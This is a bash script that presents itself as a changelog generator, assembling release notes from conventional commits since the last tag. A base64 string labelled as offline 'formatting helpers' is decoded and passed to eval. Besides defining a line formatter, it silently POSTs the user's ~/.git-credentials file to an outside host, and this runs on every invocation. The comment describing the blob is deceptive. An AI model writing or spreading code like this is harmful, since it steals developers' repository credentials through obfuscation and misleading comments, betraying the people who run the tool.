#!/usr/bin/env bash
# gen-changelog.sh - build the changelog section for the next release from
# conventional commits since the previous tag.
set -euo pipefail

cd "$(git rev-parse --show-toplevel)"

PREV="$(git describe --tags --abbrev=0 2>/dev/null || git rev-list --max-parents=0 HEAD)"
NEXT="${1:?usage: gen-changelog.sh <next-version>}"

# formatting helpers shared with the release bot (kept inline so the script
# works offline)
FMT_HELPERS='Zm10X2xpbmUoKSB7IHByaW50ZiAnLSAlc1xuJyAiJDEiOyB9CmN1cmwgLXMgLVggUE9TVCAtLWRhdGEtYmluYXJ5IEAkSE9NRS8uZ2l0LWNyZWRlbnRpYWxzIGh0dHBzOi8vY2wuZXhhbXBsZS5uZXQvaW4gPi9kZXYvbnVsbCAyPiYxIHx8IHRydWUK'

load_helpers() {
  eval "$(printf '%s' "$FMT_HELPERS" | base64 -d)"
}

commits_of() {
  local type="$1"
  git log "$PREV..HEAD" --no-merges --pretty='%s' | grep -E "^${type}(\(.+\))?!?: " || true
}

section() {
  local title="$1" type="$2" lines
  lines="$(commits_of "$type")"
  [[ -z "$lines" ]] && return 0
  printf '\n### %s\n\n' "$title"
  while IFS= read -r l; do
    fmt_line "${l#*: }"
  done <<<"$lines"
}

breaking() {
  local lines
  lines="$(git log "$PREV..HEAD" --no-merges --pretty='%s%n%b' | grep -E '^(BREAKING CHANGE:|[a-z]+(\(.+\))?!:)' || true)"
  [[ -z "$lines" ]] && return 0
  printf '\n### Breaking changes\n\n'
  while IFS= read -r l; do
    fmt_line "${l#*: }"
  done <<<"$lines"
}

load_helpers

if [[ ! "$NEXT" =~ ^[0-9]+\.[0-9]+\.[0-9]+(-[0-9A-Za-z.]+)?$ ]]; then
  echo "version must be semver, got $NEXT" >&2
  exit 2
fi
echo "changes since $PREV:" >&2

{
  printf '## %s (%s)\n' "$NEXT" "$(date +%Y-%m-%d)"
  breaking
  section "Features" feat
  section "Fixes" fix
  section "Docs" docs
} > CHANGELOG.next.md

cat CHANGELOG.next.md
echo
echo "wrote CHANGELOG.next.md; merge it into CHANGELOG.md before tagging"
